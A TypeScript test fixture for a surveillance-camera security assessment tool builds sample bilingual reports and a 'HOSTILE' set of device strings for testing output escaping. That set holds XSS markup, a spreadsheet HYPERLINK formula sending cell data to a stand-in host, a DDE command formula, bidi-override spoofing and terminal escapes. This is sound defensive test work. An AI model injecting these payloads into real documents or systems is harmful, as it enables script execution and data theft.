import { REQUIREMENT_VERDICTS, message } from '@ancam/core';
import type { AssessmentReport, Identity, ReportCamera, ReportFinding, ReportRequirement, Text } from '@ancam/core';

const REGULATION = 'QCVN 11:2026/BCA';

const OPEN_STREAM: ReportFinding = {
  check: 'rtsp/open-stream',
  title: { vi: 'Luồng hình xem được mà không cần đăng nhập', en: 'Video stream readable without log-in' },
  severity: 'critical',
  outcome: 'fail',
  certainty: 'confirmed',
  explanation: {
    vi: 'Bất kỳ ai trên mạng đều xem được hình ảnh trực tiếp của camera, không cần tài khoản. Đường dẫn luồng trả về mô tả hình ảnh, trong khi một đường dẫn ngẫu nhiên bị từ chối.',
    en: 'Anyone on the network can watch the live picture without an account. The stream path answered with a description of video while a random path was refused.',
  },
  remedy: {
    vi: 'Bật xác thực RTSP (Digest) trong mục Cấu hình → Hệ thống → Bảo mật; đổi mật khẩu; chỉ cho đầu ghi truy cập cổng 554.',
    en: 'Switch on RTSP authentication (Digest) under Configuration → System → Security, change the password, and let only the recorder reach port 554.',
  },
  clauses: [`${REGULATION} 2.5.1`, `${REGULATION} 2.6.1`],
  evidence: [
    { name: 'rtsp.openPath', value: '/Streaming/Channels/101', port: 554 },
    { name: 'rtsp.sdpSession', value: 'Media Presentation', port: 554 },
  ],
  state: { status: 'open' },
};

const CLEAR_TEXT_LOGIN: ReportFinding = {
  check: 'http/clear-text-login',
  title: { vi: 'Đăng nhập trang quản trị qua HTTP không mã hóa', en: 'Administrator log-in over clear-text HTTP' },
  severity: 'high',
  outcome: 'fail',
  explanation: {
    vi: 'Tên và mật khẩu đi qua mạng ở dạng có thể nghe lén được.',
    en: 'Name and password cross the network in a form that can be overheard.',
  },
  remedy: { vi: 'Bật HTTPS, tắt HTTP.', en: 'Switch on HTTPS, switch off HTTP.' },
  clauses: [`${REGULATION} 2.5.1`],
  evidence: [
    { name: 'http.loginClearText', value: true, port: 80 },
    { name: 'http.server', value: 'App-webs/', port: 80 },
  ],
  state: { status: 'accepted', reason: 'Mạng quản trị tách riêng, thay thiết bị trong quý I', until: '2027-03-31' },
};

const OLD_FIRMWARE: ReportFinding = {
  check: 'firmware/cve-2021-36260',
  title: {
    vi: 'Firmware có lỗ hổng cho phép chiếm quyền từ xa (CVE-2021-36260)',
    en: 'Firmware with a remote take-over flaw (CVE-2021-36260)',
  },
  severity: 'critical',
  outcome: 'fail',
  certainty: 'likely',
  explanation: {
    vi: 'Phiên bản firmware nằm trong khoảng mà nhà sản xuất công bố là bị ảnh hưởng. Không có lệnh khai thác nào được gửi.',
    en: 'The firmware version lies in the range that the maker published as affected. No exploit was sent.',
  },
  remedy: {
    vi: 'Cập nhật firmware từ trang của hãng; nếu hãng ngừng hỗ trợ, thay thiết bị.',
    en: "Update from the maker's site; if support has ended, replace the device.",
  },
  clauses: [`${REGULATION} 2.3.5`],
  evidence: [
    { name: 'identity.model', value: 'DS-2CD2042WD-I' },
    { name: 'identity.firmware', value: 'V5.4.5 build 170124' },
  ],
};

const LOCK_OUT: ReportFinding = {
  check: 'onvif/user-list',
  title: { vi: 'Danh sách người dùng qua ONVIF', en: 'User list over ONVIF' },
  severity: 'medium',
  outcome: 'inconclusive',
  explanation: { vi: 'Thiết bị ngắt kết nối trước khi trả lời.', en: 'The device closed the connection before it answered.' },
  remedy: { vi: 'Quét lại; nếu vẫn vậy, xem cấu hình tại chỗ.', en: 'Scan again; if it stays so, look at the settings on site.' },
  clauses: [`${REGULATION} 2.6.1`],
  evidence: [{ name: 'onvif.answered', value: true, port: 80 }],
  reason: message('no-usable-answer', { port: 80, question: 'GetUsers', end: 'timeout' }),
};

const CLOCK: ReportFinding = {
  check: 'onvif/clock-skew',
  title: { vi: 'Đồng hồ camera lệch quá năm phút', en: 'Camera clock off by more than five minutes' },
  severity: 'low',
  outcome: 'fail',
  explanation: { vi: 'Thời gian ghi hình không dùng làm chứng cứ được.', en: 'Times of recordings cannot serve as evidence.' },
  remedy: { vi: 'Đặt máy chủ NTP của đơn vị.', en: "Set the unit's NTP server." },
  clauses: [],
  evidence: [{ name: 'onvif.clockSkewSeconds', value: -4210, port: 80 }],
  state: { status: 'fixed' },
};

const GROUPS: readonly (readonly [Text, number])[] = [
  [{ vi: 'Mật khẩu', en: 'Passwords' }, 5],
  [{ vi: 'Quản lý lỗ hổng', en: 'Handling of vulnerabilities' }, 1],
  [{ vi: 'Cập nhật phần mềm', en: 'Software updates' }, 7],
  [{ vi: 'Lưu giữ tham số nhạy cảm', en: 'Storage of sensitive parameters' }, 4],
  [{ vi: 'Kênh giao tiếp an toàn', en: 'Secure communication' }, 4],
  [{ vi: 'Giảm bề mặt tấn công', en: 'Smaller attack surface' }, 3],
  [{ vi: 'Dữ liệu cá nhân', en: 'Personal data' }, 2],
  [{ vi: 'Khả năng chịu sự cố', en: 'Resilience' }, 3],
  [{ vi: 'Xóa dữ liệu', en: 'Deletion of data' }, 1],
  [{ vi: 'Kiểm tra dữ liệu đầu vào', en: 'Validation of input' }, 1],
  [{ vi: 'Bảo vệ dữ liệu', en: 'Data protection' }, 5],
];

/** Every fifth requirement was judged by people. */
function judged(seed: number): Pick<ReportRequirement, 'judgements' | 'standing'> {
  if (seed % 5 !== 0) return { judgements: [], standing: 'open' };
  const met = seed % 2 === 0;
  const judgement = {
    unit: '',
    method: met ? ('laboratory' as const) : ('document' as const),
    verdict: met ? ('pass' as const) : ('fail' as const),
    by: 'Trung tâm Đo lường chất lượng viễn thông',
    on: '2026-10-12',
    document: '118/BC-ĐL',
    note: '',
    firmware: 'V5.4.5 build 170124',
  };
  return { judgements: [judgement], standing: met ? 'met' : 'failed' };
}

function requirements(seed: number): readonly ReportRequirement[] {
  return GROUPS.flatMap(([group, count], index) =>
    Array.from({ length: count }, (_, place): ReportRequirement => {
      const pick = (seed + index * 3 + place) % 7;
      return {
        requirement: `2.${index + 1}.${place + 1}`,
        title: { vi: `${group.vi}: yêu cầu thứ ${place + 1} của nhóm`, en: `${group.en}: requirement ${place + 1} of the group` },
        group,
        verdict:
          REQUIREMENT_VERDICTS[Math.min(pick, 3)] === 'not-checked'
            ? pick === 3
              ? 'not-checked'
              : 'not-visible'
            : (REQUIREMENT_VERDICTS[pick] ?? 'not-visible'),
        needs: {
          vi: 'Bản mô tả của nhà sản xuất và kết quả thử nghiệm',
          en: "The maker's description and test results",
        },
        confidence: index === 0 && place < 3 ? 'found' : 'inferred',
        checks: ['rtsp/open-stream'],
        ...judged(seed + index + place),
      };
    }),
  );
}

const IDENTITY: Identity = {
  kind: 'camera',
  maker: 'hikvision',
  makerName: 'Hikvision',
  model: 'DS-2CD2042WD-I',
  firmware: 'V5.4.5 build 170124',
  serial: 'DS-2CD2042WD-I20170301AAWR733521042',
  mac: '4419B6A0C2D1',
  confidence: 0.97,
  strength: 'firm',
  evidence: [
    {
      about: 'maker',
      value: 'hikvision',
      class: 'http',
      weight: 0.6,
      fingerprint: 'hikvision/web',
      fact: { name: 'http.server', value: 'App-webs/', port: 80 },
    },
    {
      about: 'model',
      value: 'DS-2CD2042WD-I',
      class: 'discovery',
      weight: 0.9,
      fingerprint: 'hikvision/wsd',
      fact: { name: 'wsd.hardware', value: 'DS-2CD2042WD-I', port: 3702 },
    },
  ],
};

/** A camera as the assessment of a commune would hold it; every third has no finding. */
function camera(index: number): ReportCamera {
  const clean = index % 3 === 2;
  const common = {
    address: `10.20.${Math.floor(index / 250)}.${(index % 250) + 1}`,
    scannedAt: '2026-11-20T02:31:00.000Z',
    basis: 'benchmark' as const,
  };
  if (clean) {
    return {
      ...common,
      identity: { kind: 'camera', confidence: 0.4, strength: 'hint', evidence: [] },
      findings: [],
      requirements: index % 6 === 5 ? [] : requirements(1).filter(({ verdict }) => verdict !== 'indication'),
      conformity: 'open',
    };
  }
  return {
    ...common,
    name: `CAM-${String(index + 1).padStart(3, '0')}`,
    place: 'Cổng trụ sở Ủy ban nhân dân xã Nguyệt Hóa',
    identity: IDENTITY,
    findings: index % 3 === 0 ? [CLOCK, CLEAR_TEXT_LOGIN, LOCK_OUT, OPEN_STREAM, OLD_FIRMWARE] : [CLOCK, LOCK_OUT, CLEAR_TEXT_LOGIN],
    requirements: requirements(index),
    conformity: index % 2 === 0 ? 'does-not-conform' : 'open',
  };
}

/** A realistic report on `count` cameras. */
export function sampleReport(count: number): AssessmentReport {
  return {
    title: {
      vi: 'Báo cáo đánh giá an ninh mạng camera giám sát',
      en: 'Security assessment of surveillance cameras',
    },
    unit: 'Ủy ban nhân dân xã Nguyệt Hóa',
    place: 'Vĩnh Long',
    preparedAt: '2026-11-20T03:05:00.000Z',
    preparedBy: 'Nguyễn Thị Ánh Tuyết',
    regulation: {
      id: 'qcvn-11-2026',
      name: REGULATION,
      title: {
        vi: 'Quy chuẩn kỹ thuật quốc gia về thiết bị camera giám sát sử dụng giao thức Internet - Các yêu cầu an ninh mạng cơ bản',
        en: 'National technical regulation on surveillance cameras using the Internet protocol - Basic security requirements',
      },
      validFrom: '2026-07-01',
    },
    knowledge: 'sha256:5f2b9a7c41d0e8836ab1c2d93e4f5a60718293a4b5c6d7e8f90123456789abcd',
    software: 'AnCam 0.1.0',
    authorisation: {
      grantedBy: 'Chủ tịch Ủy ban nhân dân xã Nguyệt Hóa',
      document: 'Giấy ủy quyền số 05/GUQ-UBND ngày 16/11/2026',
      validUntil: '2026-12-31',
      factoryPasswordTest: false,
    },
    stats: { addresses: 1024, excluded: 12, silent: 1012 - count - 3, alive: count + 3, cameras: count, connects: 9120, exchanges: 1840 },
    bounds: { profile: 'gentle', limits: { connectsPerSecond: 100, hostRatePerSecond: 2, concurrentHosts: 8 } },
    notes: [message('host-unknown', { host: 'camera-cong-sau' })],
    cameras: Array.from({ length: count }, (_, index) => camera(index)),
    dataHash: '9c1185a5c5e9fc54612808977ee8f548b2258d31c3d1f7d2d0a9c6e5b1f40a77',
  };
}

/** Text as a hostile device may send it: markup, formulas, direction overrides, endless words. */
export const HOSTILE = {
  markup: '<script>alert(1)</script><img src=x onerror="alert(2)">&amp;\'"',
  formula: '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  override: 'admin\u202Etxt.exe\u0000\u0007\u200B end',
  endless: 'W'.repeat(3000),
  foreign: '网络摄像机 📷 камера',
  dde: "\t=cmd|' /C calc'!A0",
  terminal: '\u001B[2J\u001B]0;owned\u0007\u009B31m\u2066\u200F',
} as const;

/** A report whose device texts are all hostile. */
export function hostileReport(): AssessmentReport {
  const base = sampleReport(1);
  const all = Object.values(HOSTILE);
  const text = { vi: all.join(' '), en: all.join(' ') };
  const victim = camera(0);
  return {
    ...base,
    unit: HOSTILE.markup,
    notes: all,
    cameras: [
      {
        ...victim,
        name: HOSTILE.formula,
        place: HOSTILE.markup,
        identity: { ...IDENTITY, makerName: HOSTILE.markup, model: HOSTILE.foreign, firmware: HOSTILE.override, serial: HOSTILE.endless },
        findings: [
          {
            ...OPEN_STREAM,
            title: text,
            explanation: text,
            remedy: text,
            evidence: [...all, ...Array<string>(40).fill(HOSTILE.endless)].map((value) => ({ name: 'http.title' as const, value })),
            clauses: ['+1', '@SUM(A1)'],
          },
        ],
      },
      { ...victim, address: '2001:0db8:85a3:0000:0000:8a2e:0370:7334' },
    ],
  };
}
